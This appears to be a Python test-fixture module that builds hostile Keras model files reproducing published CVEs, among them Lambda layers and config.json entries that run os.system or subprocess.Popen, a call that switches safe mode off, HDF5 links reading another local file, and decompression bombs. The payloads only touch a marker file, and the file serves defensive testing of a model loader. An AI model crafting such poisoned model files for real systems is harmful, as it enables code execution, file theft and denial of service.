"""The published attacks on Keras' model files, made for real, and ours.

The code of each makes the file that the environment variable MARKER names.
"""

import functools
import json
import os
import tempfile
from pathlib import Path

import h5py
import keras
import numpy as np
from kept_models import keras_file, small_keras_file
from zip_files import members, zipped

MARKER = "HOSTILE_MARKER"
LOGITS = "layers/dense_1/vars/0"  # where Keras keeps the last kernel, (8, 10), in model.weights.h5

# What a Lambda layer does here. It stands alone: Keras stores its bytes
TOUCH = lambda x: (  # noqa: E731 -- only of these Keras stores the code
    __import__("pathlib").Path(__import__("os").environ["HOSTILE_MARKER"]).touch(),
    x,
)[1]


def _with_lambda():
    inputs = keras.Input((28, 28, 1))
    flat = keras.layers.Flatten()(keras.layers.Lambda(TOUCH)(inputs))
    return keras.Model(inputs, keras.layers.Dense(10)(flat))


@functools.cache
def lambda_keras() -> bytes:
    return keras_file(_with_lambda())


@functools.cache
def lambda_h5() -> bytes:
    return keras_file(_with_lambda(), ".h5")


def _with_layer(layer: dict, arguments: list) -> bytes:
    """A good .keras file whose config.json has one more layer."""
    config = json.loads(members(small_keras_file())["config.json"])
    node = {"args": arguments, "kwargs": {}}
    more = {"name": "more", "inbound_nodes": [node], "build_config": {"input_shape": None}}
    config["config"]["layers"].append(layer | more)
    return zipped(members(small_keras_file()) | {"config.json": json.dumps(config).encode()})


def _reference(module: str, name: str, *arguments) -> bytes:
    """A module and a name in it, to be called with these."""
    layer = {"module": module, "class_name": "function", "config": name, "registered_name": name}
    return _with_layer(layer, list(arguments))


def _class_reference() -> bytes:
    config = {"args": ["touch", os.environ[MARKER]]}
    layer = {"module": "subprocess", "class_name": "Popen", "registered_name": "subprocess>Popen"}
    return _with_layer(layer | {"config": config}, [])


def unsafe_switch() -> bytes:
    """config.json first calls what turns safe_mode off, then has a Lambda."""
    config = json.loads(members(lambda_keras())["config.json"])
    name = "enable_unsafe_deserialization"
    call = {"module": "keras.config", "class_name": "function", "config": name}
    node = {"args": [], "kwargs": {}}
    more = {"registered_name": name, "name": "first", "inbound_nodes": [node]}
    config["config"]["layers"].insert(0, call | more)
    return zipped(members(lambda_keras()) | {"config.json": json.dumps(config).encode()})


def _with_weights(change) -> bytes:
    """A good .keras file, but for its last kernel, which `change(file)` makes anew."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "w.h5"
        path.write_bytes(members(small_keras_file())["model.weights.h5"])
        with h5py.File(path, "r+") as file:
            del file[LOGITS]
            change(file)
        changed = {"model.weights.h5": path.read_bytes()}
    return zipped(members(small_keras_file()) | changed)


def _with_array(*arguments, **storage) -> bytes:
    return _with_weights(lambda file: file.create_dataset(LOGITS, *arguments, **storage))


def _secret() -> str:
    """A file of this computer that is nobody's business: HDF5, so that a link would work."""
    path = Path(os.environ[MARKER]).with_name("secret.h5")
    with h5py.File(path, "w") as file:
        file["kernel"] = np.full((8, 10), 7, np.float32)
    return str(path)


def _external_link() -> bytes:
    link = h5py.ExternalLink(_secret(), "/kernel")
    return _with_weights(lambda file: file.update({LOGITS: link}))


def _group_link() -> bytes:
    """The same for a layer, whose name Keras looks up before it asks what it is."""

    def change(file):
        del file["layers/dense_1"]
        file["layers/dense_1"] = h5py.ExternalLink(_secret(), "/")

    return _with_weights(change)


def _virtual_array() -> bytes:
    layout = h5py.VirtualLayout((8, 10), np.float32)
    layout[:] = h5py.VirtualSource(_secret(), "kernel", (8, 10))
    return _with_weights(lambda file: file.create_virtual_dataset(LOGITS, layout))


def _shape_bomb(rows: int) -> bytes:
    """An array that claims to be huge, in a few bytes."""
    return _with_array((rows, 10), np.float32, chunks=(1 << 16, 10), compression="gzip")


def _chunk_bomb() -> bytes:
    """An array of the right shape, kept in chunks that would be huge."""
    storage = {"chunks": (1 << 24, 10), "maxshape": (None, 10), "compression": "gzip"}
    return _with_array((8, 10), np.float32, **storage)


CODE = {  # these hold code, in config.json or as a layer
    "a Lambda layer (CVE-2024-3660)": lambda_keras,
    "a function of any module (CVE-2025-1550)": lambda: _reference(
        "os", "system", f"touch ${MARKER}"
    ),
    "a class of any module": _class_reference,
    "the switch for unsafe files (CVE-2025-9906)": unsafe_switch,
    "a call of get_file (CVE-2025-8747)": lambda: _reference(
        "keras.utils", "get_file", os.environ[MARKER], f"file://{__file__}"
    ),
    "a Lambda layer in .h5 (CVE-2025-9905)": lambda_h5,
}
OTHER_FILES = {  # the bytes of another file of this computer
    "a link to another file (CVE-2026-1669)": _external_link,
    "bytes of another file (CVE-2026-1669)": lambda: _with_array(
        (8, 10), np.float32, external=[(_secret(), 0, 320)]
    ),
    "a virtual array": _virtual_array,
}
WEIGHTS = OTHER_FILES | {  # these must be refused before Keras reads them
    "a layer that is a link": _group_link,
    "a soft link": lambda: _with_weights(
        lambda file: file.update({LOGITS: h5py.SoftLink("/layers/dense/vars/0")})
    ),
    "a shape bomb of 40 TB (CVE-2026-0897)": lambda: _shape_bomb(1 << 40),
    "a shape bomb of 4 GB (CVE-2026-0897)": lambda: _shape_bomb(100_000_000),
    "a bomb of chunks": _chunk_bomb,
    "a group in itself": lambda: _with_weights(
        lambda file: file.update({"layers/again": file["layers"]})
    ),
    "an array of text": lambda: _with_array(data=np.array([["x"] * 10] * 8, "S9")),
}
KERAS = CODE | WEIGHTS
